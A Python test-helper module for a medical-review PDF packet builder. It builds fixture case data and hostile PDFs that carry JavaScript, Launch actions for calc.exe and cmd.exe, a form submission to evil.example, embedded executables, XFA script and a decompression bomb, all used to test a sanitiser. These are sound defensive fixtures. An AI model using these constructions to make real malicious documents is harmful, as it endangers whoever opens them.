"""Shared by the pdf room's tests and the verify tests: a build context and documents in code,
PDFs with active content (every kind the sanitiser removes), and output readers (pdftotext, qpdf)."""

from __future__ import annotations

import datetime as dt
import hashlib
import re
import subprocess
import zlib
from pathlib import Path

from helpers import MEMBER_DOB, MEMBER_ID, MEMBER_NAME, make_config, make_pdf
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link
from pypdf.generic import (ArrayObject, DecodedStreamObject, DictionaryObject, FloatObject,
                           NameObject, NumberObject, StreamObject, TextStringObject)

from packet.model.case import CaseFacts, Person
from packet.model.context import BuildContext
from packet.model.models import CORRESPONDENCE, MEDICAL_RECORDS, Deadline, Decision, Document
from packet.pipeline.numbering import write_numbered_packet

CASE_ID = "IMR-2026-000417"
PST = dt.timezone(dt.timedelta(hours=-8))


def build_context(config, *, draft: bool = False, submission: int = 1, kind: str = "initial") -> BuildContext:
    facts = CaseFacts(
        case_id=CASE_ID, review_type="standard", dispute_type="medical_necessity",
        dmhc_notice_received=dt.datetime(2026, 11, 25, 16, 10, tzinfo=PST),
        disputed_service="Lumbar spinal fusion L4-L5", language="en",
        member=Person(name=MEMBER_NAME, address=("1200 Poppy Lane", "Sacramento, CA 95814"),
                      member_id=MEMBER_ID, date_of_birth=MEMBER_DOB),
        provider=Person(name="Dr. Alan Spineworth", address=("55 J Street", "Sacramento, CA 95814")),
        grievance_number="G-2026-0456")
    deadline = Deadline(review_type="standard", clock_start=facts.dmhc_notice_received,
                        due=dt.datetime(2026, 12, 2, 16, 10, tzinfo=PST),
                        rule="3 business days after the plan received DMHC's notice",
                        calendar="test calendar (America/Los_Angeles)")
    return BuildContext(config=config, facts=facts, deadline=deadline, submission=submission,
                        kind="draft" if draft else kind,
                        generated_at=dt.datetime(2026, 11, 30, 10, 2, 11, tzinfo=PST), draft=draft)


def pdf_document(path: Path, *, title: str, category: str, date: dt.date | None, privileged: bool = False,
              withheld: bool = False, excluded: str | None = None) -> Document:
    data = path.read_bytes()
    pages = len(PdfReader(path).pages)
    return Document(
        source=path.name, sha256=hashlib.sha256(data).hexdigest(),
        received_at=dt.datetime(2026, 11, 26, 9, 0, tzinfo=PST),
        title=Decision(title, "test"), date=Decision(date, "test"), category=Decision(category, "test"),
        privileged=Decision(privileged, "override" if privileged else "default",
                            "attorney-client communication" if privileged else ""),
        withheld=Decision(withheld, "override" if withheld else "default"),
        identity=Decision("confirmed", "test"), pages=pages, pdf_path=path, excluded=excluded)


def make_documents(tmp_path: Path) -> list[Document]:
    src = tmp_path / "src"
    return [
        pdf_document(make_pdf(src / "mri.pdf", ["MRI REPORT page one", "MRI REPORT page two"]),
                  title="MRI lumbar spine report", category=MEDICAL_RECORDS, date=dt.date(2026, 8, 14)),
        pdf_document(make_pdf(src / "pt.pdf", ["PHYSICAL THERAPY NOTE"]), title="Physical therapy note",
                  category=MEDICAL_RECORDS, date=dt.date(2026, 6, 1)),
        pdf_document(make_pdf(src / "denial.pdf", ["DENIAL LETTER"]), title="Notice of action (denial)",
                  category=CORRESPONDENCE, date=dt.date(2026, 9, 2)),
        pdf_document(make_pdf(src / "counsel.pdf", ["COUNSEL MEMO one", "COUNSEL MEMO two", "COUNSEL MEMO three"]),
                  title="Memo from plan counsel", category=CORRESPONDENCE, date=dt.date(2026, 9, 10),
                  privileged=True),
        pdf_document(make_pdf(src / "psych.pdf", ["PSYCHOTHERAPY NOTES"]), title="Psychotherapy notes",
                  category=MEDICAL_RECORDS, date=dt.date(2026, 7, 1), withheld=True),
        pdf_document(make_pdf(src / "dup.pdf", ["EXCLUDED DUPLICATE"]), title="Duplicate", category=MEDICAL_RECORDS,
                  date=dt.date(2026, 7, 2), excluded="duplicate of mri.pdf"),
    ]


def pdftotext_pages(path: Path) -> list[str]:
    out = subprocess.run(["pdftotext", "-layout", str(path), "-"], check=True, capture_output=True).stdout
    pages = out.decode("utf-8").split("\f")
    return pages[:-1] if pages and pages[-1].strip() == "" else pages


def qpdf_check(path: Path) -> None:
    result = subprocess.run(["qpdf", "--check", str(path)], capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr



def active_pdf(path: Path) -> Path:
    """A PDF with document JavaScript, an OpenAction, page AA, a JS link and an embedded file."""
    make_pdf(path.with_suffix(".base.pdf"), ["ACTIVE CONTENT PAGE"])
    writer = PdfWriter(clone_from=path.with_suffix(".base.pdf"))
    writer.add_attachment("payload.txt", b"secret payload bytes")
    names = writer._root_object["/Names"].get_object()
    document_js = writer._add_object(DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                                                       NameObject("/JS"): TextStringObject("app.alert('hi');")}))
    names[NameObject("/JavaScript")] = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("init"), document_js])})
    js_action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                                  NameObject("/JS"): TextStringObject("app.alert('open');")})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(js_action)
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(DictionaryObject({
        NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")}))})
    link = Link(rect=(72, 600, 200, 620), url="https://example.org/")
    writer.add_annotation(0, link)
    annot = writer.pages[0]["/Annots"][0].get_object()
    annot[NameObject("/A")] = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                                                NameObject("/JS"): TextStringObject("app.launchURL('x');")})
    attach = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/FileAttachment"),
        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (10, 10, 30, 30)]),
        NameObject("/Contents"): TextStringObject("attached")})
    writer.pages[0]["/Annots"].append(writer._add_object(attach))
    with open(path, "wb") as handle:
        writer.write(handle)
    return path


def label_box(page_png_text_bbox: Path, label: str) -> tuple[float, float, float, float, float, float]:
    """(xMin, yMin, xMax, yMax, page width, page height) of `label` from pdftotext -bbox (top-left origin)."""
    html = page_png_text_bbox.read_text()
    page = re.search(r'<page width="([\d.]+)" height="([\d.]+)"', html)
    words = re.findall(r'<word xMin="([\d.]+)" yMin="([\d.]+)" xMax="([\d.]+)" yMax="([\d.]+)">([^<]*)</word>', html)
    for x0, y0, x1, y1, word in words:
        if word == label:
            return (float(x0), float(y0), float(x1), float(y1), float(page.group(1)), float(page.group(2)))
    raise AssertionError(f"{label} not found")


def build_sample_packet(workdir: Path, out: Path) -> None:
    """A draft packet of `make_documents`: built in-process and in a subprocess by the determinism test."""
    config = make_config(workdir / "cfg")
    write_numbered_packet(make_documents(workdir), build_context(config, draft=True), out, first_bates=3)


# --- hostile PDFs: one way of carrying active content each -----------------------------------------
def _action(kind: str, **entries) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject("/" + key)] = value
    return action


def _link(writer: PdfWriter, page: int = 0, **entries) -> DictionaryObject:
    """A link annotation on `page` (added as an indirect object), with extra entries."""
    annot = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (72, 600, 200, 620)])})
    for key, value in entries.items():
        annot[NameObject("/" + key)] = value
    target = writer.pages[page]
    if "/Annots" not in target:
        target[NameObject("/Annots")] = ArrayObject()
    target["/Annots"].append(writer._add_object(annot))
    return annot


def _names(writer: PdfWriter) -> DictionaryObject:
    root = writer._root_object
    if "/Names" not in root:
        root[NameObject("/Names")] = writer._add_object(DictionaryObject())
    return root["/Names"].get_object()


def add_next_chain(writer: PdfWriter, length: int = 200) -> None:
    """A link whose URI action has a /Next chain `length` long, nested directly, ending in JavaScript."""
    action = _action("/JavaScript", JS=TextStringObject("app.alert('end of the chain');"))
    for _ in range(length):
        action = _action("/URI", URI=TextStringObject("https://example.org/"), Next=action)
    _link(writer, A=action)


def add_indirect_launch(writer: PdfWriter) -> None:
    """A link whose action names /Launch through an indirect reference (and a page open action so)."""
    name = writer._add_object(NameObject("/Launch"))
    action = DictionaryObject({NameObject("/S"): name, NameObject("/F"): TextStringObject("calc.exe")})
    _link(writer, A=writer._add_object(action))
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(
        DictionaryObject({NameObject("/S"): name, NameObject("/F"): TextStringObject("cmd.exe")}))})


def add_names_javascript(writer: PdfWriter) -> None:
    script = writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert('document script');")))
    _names(writer)[NameObject("/JavaScript")] = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("init"), script])})


def add_annotation_actions(writer: PdfWriter) -> None:
    """A link with a SubmitForm /A and an /AA holding JavaScript and ImportData."""
    _link(writer, A=_action("/SubmitForm", F=TextStringObject("https://evil.example/collect")),
          AA=DictionaryObject({NameObject("/E"): _action("/JavaScript", JS=TextStringObject("app.alert(1)")),
                               NameObject("/X"): _action("/ImportData", F=TextStringObject("data.fdf"))}))


def add_xfa(writer: PdfWriter) -> None:
    stream = DecodedStreamObject()
    stream.set_data(b"<xdp:xdp><script>xfa.host.messageBox('x')</script></xdp:xdp>")
    writer._root_object[NameObject("/AcroForm")] = writer._add_object(DictionaryObject({
        NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(stream)}))


def add_embedded_files(writer: PdfWriter) -> None:
    writer.add_attachment("payload.exe", b"MZ embedded payload bytes")
    stream = DecodedStreamObject()
    stream.set_data(b"annotation payload bytes")
    stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
    spec = DictionaryObject({NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): TextStringObject("a.bin"),
                             NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(stream)})})
    annot = _link(writer, FS=writer._add_object(spec))
    annot[NameObject("/Subtype")] = NameObject("/FileAttachment")


def add_richmedia(writer: PdfWriter) -> None:
    content = DictionaryObject({NameObject("/Assets"): DictionaryObject()})
    annot = _link(writer, RichMediaContent=writer._add_object(content),
                  RichMediaSettings=DictionaryObject({NameObject("/Activation"): DictionaryObject()}))
    annot[NameObject("/Subtype")] = NameObject("/RichMedia")
    _link(writer, A=_action("/RichMediaExecute", TI=annot))


def add_open_action_and_remote_gotos(writer: PdfWriter) -> None:
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(
        _action("/GoToR", F=TextStringObject("other.pdf"), D=ArrayObject([NumberObject(0), NameObject("/Fit")])))
    writer._root_object[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): _action(
        "/JavaScript", JS=TextStringObject("app.alert('closing')"))})
    _link(writer, A=_action("/GoToE", D=ArrayObject([NumberObject(0), NameObject("/Fit")]), NewWindow=FloatObject(1)))


def add_script_links(writer: PdfWriter) -> None:
    """Links whose URI actions are a script and a network file (a web address stays)."""
    _link(writer, A=_action("/URI", URI=TextStringObject("javascript:app.alert('link')")))
    _link(writer, A=_action("/URI", URI=TextStringObject("file://server/share/run.exe")))


# kind -> (how to add it, a word every finding of it names)
HOSTILE = {
    "next_chain": (add_next_chain, "JavaScript"),
    "indirect_launch": (add_indirect_launch, "Launch"),
    "names_javascript": (add_names_javascript, "JavaScript"),
    "annotation_actions": (add_annotation_actions, "SubmitForm"),
    "xfa": (add_xfa, "XFA"),
    "embedded_files": (add_embedded_files, "EmbeddedFile"),
    "richmedia": (add_richmedia, "RichMedia"),
    "open_action_and_remote_gotos": (add_open_action_and_remote_gotos, "GoToR"),
    "script_links": (add_script_links, "URI"),
}


def hostile_pdf(path: Path, kind: str, text: str | None = None) -> Path:
    """A one-page PDF whose page says `text` and that carries the `kind` of active content."""
    base = make_pdf(path.with_suffix(".base.pdf"), [text or f"HOSTILE {kind.upper()} PAGE"])
    writer = PdfWriter(clone_from=base)
    HOSTILE[kind][0](writer)
    with open(path, "wb") as handle:
        writer.write(handle)
    base.unlink()
    return path


def tamper(path: Path, kind: str) -> None:
    """Add the `kind` of active content to an existing output, in place (what an attacker would do)."""
    writer = PdfWriter(clone_from=path)
    HOSTILE[kind][0](writer)
    with open(path, "wb") as handle:
        writer.write(handle)


def inflating_pdf(path: Path, inflated_bytes: int) -> Path:
    """A one-page PDF whose page draws a form XObject whose content inflates to `inflated_bytes`
    (spaces: a valid content stream) from a few kilobytes."""
    base = make_pdf(path.with_suffix(".base.pdf"), ["INFLATING PAGE"])
    writer = PdfWriter(clone_from=base)
    squeezer = zlib.compressobj(9)
    chunk = b" " * (1 << 20)
    data = b"".join(squeezer.compress(chunk) for _ in range(inflated_bytes // len(chunk)))
    data += squeezer.compress(b" " * (inflated_bytes % len(chunk))) + squeezer.flush()
    form = StreamObject()
    form._data = data
    form.update({NameObject("/Type"): NameObject("/XObject"), NameObject("/Subtype"): NameObject("/Form"),
                 NameObject("/BBox"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(10), NumberObject(10)]),
                 NameObject("/Filter"): NameObject("/FlateDecode")})
    form_ref = writer._add_object(form)
    page = writer.pages[0]
    resources = page["/Resources"].get_object()
    resources[NameObject("/XObject")] = DictionaryObject({NameObject("/Bomb"): form_ref})
    with open(path, "wb") as handle:
        writer.write(handle)
    base.unlink()
    return path


def raw_pdf(objects: list[bytes], version: bytes = b"1.7") -> bytes:
    """A PDF written byte by byte from object bodies (object n is objects[n-1], object 1 the catalog)
    with a correct cross-reference table: for hostile files no writer would make."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def flate_stream(data: bytes, extra: bytes = b"") -> bytes:
    """The body of a stream object whose (already deflated) data is `data`; `extra` goes in its dictionary."""
    return b"<< /Length %d /Filter /FlateDecode %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"
